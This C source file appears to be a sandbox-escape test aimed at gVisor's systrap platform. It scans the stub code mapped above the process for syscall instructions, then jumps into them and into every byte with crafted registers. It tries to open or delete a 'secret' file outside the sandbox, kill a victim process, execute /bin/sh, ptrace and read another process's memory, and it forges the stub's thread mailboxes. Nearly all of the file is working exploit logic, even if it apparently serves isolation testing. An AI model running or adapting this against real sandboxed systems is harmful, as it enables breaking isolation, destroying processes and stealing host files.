/*
 * A program that knows the systrap platform: it looks above its own memory for the stub's code, jumps to each
 * system call instruction there with its own registers, jumps to every byte, and forges its mailbox.
 * Elsewhere there is nothing above, and each try ends in SIGSEGV.
 */
#include "escape.h"
#include <setjmp.h>
#include <sys/mman.h>

#define CODE 0x7fffd0000000ul
#define CODE_BYTES 0x1000ul
#define THREADS 0x7fffe0000000ul
enum { JUMPS = 0x260 };

static sigjmp_buf back;
static char path[4300], word[4300];
static pid_t victim;

static void fault(int number) { siglongjmp(back, number); }

static void catch_faults(void) {
  struct sigaction action = {.sa_handler = fault, .sa_flags = SA_NODEFER};
  static const int all[] = {SIGSEGV, SIGBUS, SIGILL, SIGTRAP, SIGFPE, SIGSYS, SIGALRM};
  for (unsigned i = 0; i < sizeof all / sizeof *all; i++) sigaction(all[i], &action, NULL);
}

/* Jumps to `target` with these registers. What is there decides whether it comes back. */
static void jump(unsigned long target, long nr, const long *a) {
  register long r10 __asm__("r10") = a[3];
  register long r8 __asm__("r8") = a[4];
  register long r9 __asm__("r9") = a[5];
  register unsigned long r11 __asm__("r11") = target;
  __asm__ volatile("call *%%r11" : "+a"(nr), "+r"(r11) : "D"(a[0]), "S"(a[1]), "d"(a[2]), "r"(r10), "r"(r8), "r"(r9) : "rcx", "rbx", "r12", "r13", "r14", "r15", "memory");
}

static void try_at(unsigned long target, int which) {
  const long calls[][7] = {
    {SYS_openat, AT_FDCWD, (long)path, O_RDWR, 0, 0, 0}, {SYS_open, (long)word, O_RDWR | O_CREAT, 0777, 0, 0, 0}, {SYS_mkdir, (long)word, 0777, 0, 0, 0, 0}, {SYS_unlink, (long)path, 0, 0, 0, 0, 0}, {SYS_kill, victim, SIGKILL, 0, 0, 0, 0}, {SYS_tgkill, victim, victim, SIGKILL, 0, 0, 0}, {SYS_socket, 1, 1, 0, 0, 0, 0}, {SYS_execve, (long)"/bin/sh", 0, 0, 0, 0, 0}, {SYS_ptrace, 16, victim, 0, 0, 0, 0}, {SYS_mmap, 0, 4096, 7, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0}, {SYS_munmap, CODE, 4096, 0, 0, 0, 0}, {SYS_mprotect, CODE, 4096, 7, 0, 0, 0}, {SYS_clone, SIGCHLD, 0, 0, 0, 0, 0}, {SYS_dup2, 0, 1, 0, 0, 0, 0}, {SYS_write, 3, (long)"x", 1, 0, 0, 0}, {SYS_process_vm_readv, victim, (long)path, 1, (long)path, 1, 0}, {SYS_prctl, 22, 2, 0, 0, 0, 0},
  };
  const long *c = calls[(unsigned)which % (sizeof calls / sizeof *calls)];
  pid_t pid = fork();
  if (pid == 0) {
    catch_faults();
    struct { struct timeval every, next; } soon = {{0, 20000}, {0, 20000}};
    syscall(SYS_setitimer, 0, &soon, NULL);
    if (sigsetjmp(back, 1) == 0) jump(target, c[0], c + 1);
    if (sigsetjmp(back, 1) == 0 && c[0] == SYS_openat) show("from the stub", 3);
    _exit(0);
  }
  int status = 0;
  for (int waited = 0; waitpid(pid, &status, WNOHANG) == 0; waited++) {
    if (waited > 300) kill(pid, SIGKILL);
    sleep_ms(1);
  }
  attempts++;
}

/* Copies what is readable of the stub's code; the bytes read. */
static unsigned long read_code(unsigned char *into) {
  catch_faults();
  volatile unsigned long at = 0;
  if (sigsetjmp(back, 1) == 0)
    for (; at < CODE_BYTES; at++) into[at] = ((volatile unsigned char *)CODE)[at];
  return at;
}

static void forge(int value) {
  pid_t pid = fork();
  if (pid == 0) {
    catch_faults();
    struct { struct timeval every, next; } soon = {{0, 30000}, {0, 30000}};
    syscall(SYS_setitimer, 0, &soon, NULL);
    for (int i = 0; i < 50; i++) {
      if (sigsetjmp(back, 1) != 0) continue;
      volatile uint64_t *mailbox = (volatile uint64_t *)(THREADS + (unsigned long)(i % 8) * 0x4000);
      for (int k = 0; k < 2048; k++) mailbox[k] = value < 4 ? (uint64_t)value : value < 6 ? (uint64_t)mailbox : (uint64_t)k * 0x9e3779b97f4a7c15ul;
      getppid();
    }
    _exit(0);
  }
  int status = 0;
  for (int waited = 0; waitpid(pid, &status, WNOHANG) == 0; waited++) {
    if (waited > 300) kill(pid, SIGKILL);
    sleep_ms(1);
  }
  attempts++;
}

int main(int argc, char **argv) {
  start(argc, argv);
  victim = argc > 2 ? atoi(argv[2]) : 1;
  snprintf(path, sizeof path, "%s/secret", outside);
  snprintf(word, sizeof word, "%s/from.stub", outside);
  static unsigned char code[CODE_BYTES];
  unsigned long length = read_code(code);
  int gadgets = 0;
  for (unsigned long at = 0; at + 1 < length; at++) {
    if (code[at] != 0x0f || code[at + 1] != 0x05) continue;
    gadgets++;
    for (int which = 0; which < 17; which++) try_at(CODE + at, which);
  }
  for (int at = 0; at < JUMPS; at += length > 0 ? 1 : 16) try_at(CODE + (unsigned long)at, at);
  for (int value = 0; value < 8; value++) forge(value);
  out("code %lu gadgets %d", length, gadgets);
  IN_CHILD("another process", { write_file("/tmp/after", "x"); });
  return finish();
}
